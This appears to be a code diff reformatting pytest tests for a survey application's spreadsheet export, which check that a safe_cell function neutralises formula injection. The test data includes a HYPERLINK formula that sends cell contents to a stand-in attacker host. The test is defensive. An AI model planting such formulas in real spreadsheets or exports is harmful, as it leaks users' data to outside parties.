@@ -20,10 +20,22 @@ from tests.tenants.conftest import PORTAL, make_staff, staff_login
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1;"Klick")'
 
 
-@pytest.mark.parametrize("value,expected", [
-    ("=1+1", "'=1+1"), ("+49 561 123", "'+49 561 123"), ("-5 Grad", "'-5 Grad"), ("@SUM(A1)", "'@SUM(A1)"),
-    ("\tTab", "'\tTab"), ("\rCR", "'\rCR"), ("Gut so", "Gut so"), ("", ""), (-5, -5), (3.5, 3.5), (None, None),
-])  # fmt: skip
+@pytest.mark.parametrize(
+    "value,expected",
+    [
+        ("=1+1", "'=1+1"),
+        ("+49 561 123", "'+49 561 123"),
+        ("-5 Grad", "'-5 Grad"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\tTab", "'\tTab"),
+        ("\rCR", "'\rCR"),
+        ("Gut so", "Gut so"),
+        ("", ""),
+        (-5, -5),
+        (3.5, 3.5),
+        (None, None),
+    ],
+)
 def test_safe_cell(value, expected):
     assert safe_cell(value) == expected
 
@@ -37,8 +49,12 @@ def _export(kassel, fmt: str, capture) -> bytes:
         survey_publish(survey=survey)
         questions = all_questions(survey_structure(survey))
         by_code = {q.code: q for q in questions}
-        response_submit(survey=survey, questions=questions, token=uuid.uuid4(),
-                        answers={str(by_code["text"].pk): FORMULA, str(by_code["zahl"].pk): "-5"})  # fmt: skip
+        response_submit(
+            survey=survey,
+            questions=questions,
+            token=uuid.uuid4(),
+            answers={str(by_code["text"].pk): FORMULA, str(by_code["zahl"].pk): "-5"},
+        )
         with capture(execute=True):
             export = survey_export_request(survey=survey, format=fmt)
         export.refresh_from_db()
